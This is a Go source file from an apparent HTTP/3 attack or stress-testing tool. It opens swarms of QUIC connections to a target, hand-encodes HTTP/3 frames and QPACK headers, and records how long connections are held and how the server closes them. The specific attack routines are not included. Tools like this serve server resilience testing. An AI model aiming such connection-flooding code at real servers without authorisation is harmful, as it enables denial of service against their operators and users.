package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"github.com/quic-go/quic-go/quicvarint"
)

// Frame and stream types of RFC 9114 that the attacks write by hand.
const (
	frameData     = 0x00
	frameHeaders  = 0x01
	frameSettings = 0x04
	streamControl = 0x00
	streamEncoder = 0x02 // RFC 9204 §4.2
)

// h3 is the attacker's end of an HTTP/3 connection: QUIC streams, and bytes of
// our own on them.
type h3 struct {
	target Target
	conn   *quic.Conn
}

// overH3 runs attack on t.Conns connections, each with its control stream open.
func (t Target) overH3(ctx context.Context, attack func(ctx context.Context, h *h3, s *Stats) error) (Stats, error) {
	if t.TLS == nil {
		return Stats{}, errors.New("attack HTTP/3: target has no TLS")
	}
	return t.swarm(ctx, func(ctx context.Context, ready func(), s *Stats) error {
		config := t.TLS.Clone()
		config.NextProtos = []string{http3.NextProtoH3}
		conn, err := dialQUIC(ctx, t.Addr, config)
		if err != nil {
			s.Failed++
			return fmt.Errorf("dial QUIC %s: %w", t.Addr, err)
		}
		defer conn.CloseWithError(0, "")
		stop := context.AfterFunc(ctx, func() { conn.CloseWithError(0, "") })
		defer stop()
		s.Opened++
		start := time.Now()
		control, err := conn.OpenUniStream()
		if err != nil {
			return err
		}
		if _, err := control.Write([]byte{streamControl, frameSettings, 0}); err != nil {
			return err
		}
		ready()
		attack(ctx, &h3{t, conn}, s)
		s.Held = time.Since(start)
		if how := closedBy(ctx, conn); how != "" {
			s.Cut++
			s.end(how, 1)
		}
		return nil
	})
}

func dialQUIC(ctx context.Context, addr string, config *tls.Config) (*quic.Conn, error) {
	return quic.DialAddr(ctx, addr, config, &quic.Config{KeepAlivePeriod: 2 * time.Second})
}

// closedBy says how the server closed conn; "" if it has not, or if ctx ended first.
func closedBy(ctx context.Context, conn *quic.Conn) string {
	if ctx.Err() != nil || conn.Context().Err() == nil {
		return ""
	}
	if app, ok := errors.AsType[*quic.ApplicationError](context.Cause(conn.Context())); ok {
		return "closed " + http3.ErrCode(app.ErrorCode).String()
	}
	return "closed"
}

// send opens a stream and writes wire on it; fin ends it in order.
func (h *h3) send(ctx context.Context, wire []byte, fin bool) (*quic.Stream, error) {
	stream, err := h.conn.OpenStreamSync(ctx)
	if err != nil {
		return nil, err
	}
	if _, err := stream.Write(wire); err != nil {
		return stream, nil // the server had enough: answer says why
	}
	if fin {
		stream.Close()
	}
	return stream, nil
}

// answer reads the response on stream and returns its status, or how the server
// ended the stream, or "open" if ctx ended first.
func (h *h3) answer(ctx context.Context, stream *quic.Stream) string {
	r := quicvarint.NewReader(stream)
	for {
		kind, err := quicvarint.Read(r)
		if err != nil {
			return endOfStream(ctx, err)
		}
		size, err := quicvarint.Read(r)
		if err != nil {
			return endOfStream(ctx, err)
		}
		payload, err := io.ReadAll(io.LimitReader(r, int64(min(size, 1<<20))))
		if err != nil {
			return endOfStream(ctx, err)
		}
		if kind != frameHeaders {
			continue
		}
		field, err := qpack.NewDecoder().Decode(payload)()
		if err != nil || field.Name != ":status" {
			return "malformed"
		}
		if field.Value[0] != '1' { // not interim
			return field.Value
		}
	}
}

func endOfStream(ctx context.Context, err error) string {
	var reset *quic.StreamError
	var closed *quic.ApplicationError
	switch {
	case ctx.Err() != nil:
		return "open"
	case errors.As(err, &reset):
		return "reset " + http3.ErrCode(reset.ErrorCode).String()
	case errors.As(err, &closed):
		return "closed " + http3.ErrCode(closed.ErrorCode).String()
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "eof"
	}
	return "closed"
}

// field is a field line of a hand-written header block.
type field struct{ name, value string }

// head encodes the head of a request as a HEADERS frame.
func (h *h3) head(method string, fields ...field) []byte {
	return appendFrame(nil, frameHeaders, appendFields(nil, append([]field{
		{":method", method}, {":scheme", "https"}, {":authority", h.target.Host}, {":path", h.target.Path},
	}, fields...)...))
}

func appendFrame(b []byte, kind uint64, payload []byte) []byte {
	b = quicvarint.Append(b, kind)
	b = quicvarint.Append(b, uint64(len(payload)))
	return append(b, payload...)
}

// appendFields encodes a field section without any table or Huffman code: an empty
// prefix, then literal lines with literal names (RFC 9204 §4.5.1, §4.5.6).
func appendFields(b []byte, fields ...field) []byte {
	b = append(b, 0, 0)
	for _, f := range fields {
		b = appendPrefixed(b, 0x20, 3, len(f.name))
		b = append(b, f.name...)
		b = appendPrefixed(b, 0, 7, len(f.value))
		b = append(b, f.value...)
	}
	return b
}

// appendPrefixed encodes n with a prefix of some bits (RFC 7541 §5.1) under first.
func appendPrefixed(b []byte, first byte, bits, n int) []byte {
	if limit := 1<<bits - 1; n < limit {
		return append(b, first|byte(n))
	} else {
		b, n = append(b, first|byte(limit)), n-limit
	}
	for ; n >= 128; n >>= 7 {
		b = append(b, byte(n)|128)
	}
	return append(b, byte(n))
}
